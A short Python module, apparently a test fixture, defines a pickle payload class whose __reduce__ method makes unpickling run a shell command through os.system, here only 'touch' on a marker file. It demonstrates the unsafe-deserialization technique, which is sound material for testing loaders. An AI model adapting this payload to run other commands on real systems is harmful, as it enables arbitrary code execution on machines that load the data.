"""A pickle that does harm where it is loaded without care."""

import os
from pathlib import Path


class Runs:
    """A payload: unpickling it makes a file."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)
